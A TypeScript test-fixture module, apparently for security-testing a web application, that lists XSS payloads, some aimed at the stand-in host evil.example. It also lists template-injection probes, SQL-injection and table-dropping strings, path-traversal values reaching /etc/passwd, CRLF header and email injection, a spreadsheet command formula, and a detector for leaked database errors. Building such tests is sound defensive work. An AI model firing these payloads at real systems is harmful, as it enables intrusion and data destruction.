/** Stands in every hostile text, so that it is found again wherever it is shown. */
export const MARK = 'kanariefugl'

/** Texts that try to become more than text, each in its own way. */
export const HOSTILE_TEXTS: readonly string[] = [
  `<script>alert('${MARK}')</script>`,
  `<img src=x onerror=alert('${MARK}')>`,
  `"><svg onload=alert('${MARK}')>`,
  `" autofocus onfocus="alert('${MARK}')`,
  `' onmouseover='alert("${MARK}")`,
  `</textarea><script>alert('${MARK}')</script>`,
  `</title><script>alert('${MARK}')</script>`,
  `</script><script>alert('${MARK}')</script>`,
  `<!--<img src="--><img src=x onerror=alert('${MARK}')//">`,
  `javascript:alert('${MARK}')`,
  `java\tscript:alert('${MARK}')`,
  `data:text/html,<script>alert('${MARK}')</script>`,
  `<a href="javascript:alert('${MARK}')">${MARK}</a>`,
  `<iframe srcdoc="<script>alert('${MARK}')</script>"></iframe>`,
  `<form action="https://evil.example"><input name=${MARK}>`,
  `<base href="https://evil.example/${MARK}/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/${MARK}">`,
  `<style>@import url(https://evil.example/${MARK}.css)</style>`,
  `<math><mtext><mglyph><style><img src=x onerror=alert('${MARK}')>`,
  `{{7*7}} \${7*7} <%= 7*7 %> #{7*7} ${MARK}`,
]

/** Values that are no id, no number, no date and no name, and like to be taken for one. */
export const ODD_VALUES: readonly string[] = [
  "' OR 1=1--",
  "1'); drop table person;--",
  '1::regclass',
  '\0',
  '%',
  '_',
  '*',
  '\\',
  '../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  'CON',
  '-1',
  '-0',
  '0x10',
  '1e3',
  'NaN',
  'Infinity',
  'true',
  'null',
  'undefined',
  '[object Object]',
  '9007199254740993',
  '99999999999999999999999999',
  '00000000-0000-0000-0000-000000000000',
  '{00000000-0000-0000-0000-000000000000}',
  '2014-02-30',
  '31-12-9999',
  '0001-01-01',
  '１２３４５６７８',
  '\u202Egnuh',
  'a\u200Bb',
  'e\u0301',
  '👩🏽‍🔬𝕏',
  '\r\nSet-Cookie: x=1',
  '\r\nBcc: alle@example.dk',
  '\u001b[31mrød',
  "=cmd|'/c calc'!A1",
  'x'.repeat(5000),
]

/** The ones an address is most easily broken with. */
export const ODD_IDS: readonly string[] = ODD_VALUES.filter((v) =>
  /^('|1::|\0|%|\.\.|-1|1e3|NaN|9{9}|\{|\u202E|\r|x{9})/.test(v),
)

const DATABASE_WORDS =
  /syntax error at|invalid input syntax|violates (?:check|foreign|unique|not-null)|relation "|column "|SQLSTATE|invalid byte sequence|PostgresError|at .*\.tsx?:\d+|node_modules/i

/** What an answer must not tell: a template that was worked out, words of the database, a stack. */
export function saysTooMuch(html: string): string[] {
  const worked = new RegExp(`\\b49\\b[^<]{0,40}${MARK}`)
  return [DATABASE_WORDS, worked].flatMap((m) => m.exec(html)?.[0].slice(0, 200) ?? [])
}
